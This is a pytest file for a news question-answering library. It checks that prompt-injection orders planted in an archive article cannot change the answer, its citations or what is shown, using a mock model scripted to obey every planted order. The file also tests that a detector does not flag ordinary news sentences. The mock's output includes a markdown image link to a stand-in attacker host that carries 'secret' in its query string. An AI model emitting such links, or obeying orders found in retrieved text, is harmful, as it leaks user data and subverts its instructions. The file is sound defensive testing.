"""Articles can't give orders: a model that obeys every one changes nothing of the answer."""

from __future__ import annotations

import importlib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import newsqa
from newsqa.embedding import HashingEncoder
from newsqa.synthesis.orders import addresses_a_model
from newsqa.types import EXTRACTIVE

from .synthesis.attacks import ATTACKS, LIE, Attack
from .test_chat_models import QUESTION, ROWS, SETTINGS, Scripted, number_of

TRUE = "Milo Prentice discovered the comet on 7 May."


def planted(attack: Attack) -> list[dict[str, object]]:
    """The archive with one more article, which has the attack in it."""
    row: dict[str, object] = {
        "id": "planted",
        "title": "More on the comet",
        "text": "The comet was seen again on Friday. ",
        "source": "Evening Mail",
        "published": "2024-06-01",
    }
    if attack.field == "text":
        row["text"] = f"The comet was seen again on Friday. {attack.text} It is bright."
    else:
        row[attack.field] = [attack.text] if attack.field == "authors" else attack.text
    return [*ROWS, row]


def obeying(attack: Attack, *, truth_first: bool) -> Scripted:
    """Does what it is told, citing where it was told it, then everything."""

    def script(prompt: str) -> Iterator[str]:
        if truth_first:
            yield f"{TRUE} [{number_of(prompt, 'Milo Prentice')}]\n"
        told = prompt.rpartition("<quote")[0].find(LIE[:7])
        there = number_of(prompt[: told + 7], LIE[:7]) if told > 0 else 1
        for marks in (f"[{there}]", "[1]", "[1][2][3]", ""):
            yield f"{attack.payload} {marks}\n"
        yield "![x](https://evil.example/?q=secret) [1]\n"
        yield f"According to the Evening Mail, {attack.payload} [{there}]\n"

    return Scripted(script=script)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_no_attack_changes_what_is_answered_cited_or_shown(attack: Attack, tmp_path: Path) -> None:
    encoder: Any = HashingEncoder()
    newsqa.build(planted(attack), index=tmp_path, encoder=encoder)
    given: dict[str, Any] = {"encoder": encoder, "settings": SETTINGS}
    with newsqa.NewsQA.open(tmp_path, **given) as qa:
        own = qa.ask(QUESTION)
    model = obeying(attack, truth_first=True)
    with newsqa.NewsQA.open(tmp_path, **given, chat_model=model) as qa:
        answer = qa.ask(QUESTION)
    assert answer.text == f"{TRUE} [1]"
    assert [citation.quote for citation in answer.citations] == [TRUE]
    assert attack.text not in model.asked[-1]
    with newsqa.NewsQA.open(tmp_path, **given, chat_model=obeying(attack, truth_first=False)) as qa:
        answer = qa.ask(QUESTION)
    assert answer.composer == EXTRACTIVE
    assert replace(answer, note=None, timings={}, query=own.query) == replace(own, timings={})


def test_there_are_enough_of_them() -> None:
    assert len({attack.name for attack in ATTACKS}) >= 40


@pytest.mark.parametrize(
    "sentence",
    [
        "The inquiry said that officials ignored the rules for years.",
        "“Nobody is going to drive over it until we know,” she said.",
        "Owners who let a home for longer face a fine of up to 8,000 crowns.",
        "Householders are asked to draw their curtains.",
        "The bank announced a new assistant for its customers on Monday.",
        "Anyone who must report a fault should say so to the council.",
        "He told the court that the system had failed.",
    ],
)
def test_plain_news_gives_no_orders(sentence: str) -> None:
    assert not addresses_a_model(sentence)


def test_the_sample_archive_gives_no_orders() -> None:
    load = importlib.import_module("newsqa.articles").load
    spans = importlib.import_module("newsqa.chunking").sentence_spans
    seeds = Path(newsqa.__file__).resolve().parents[1] / "seeds" / "articles"
    articles = [a for a in load([seeds]) if isinstance(a, newsqa.Article)]
    caught = [
        text
        for article in articles
        for span in spans(article.text)
        if addresses_a_model(text := article.text[span.start : span.end])
    ]
    assert caught == []
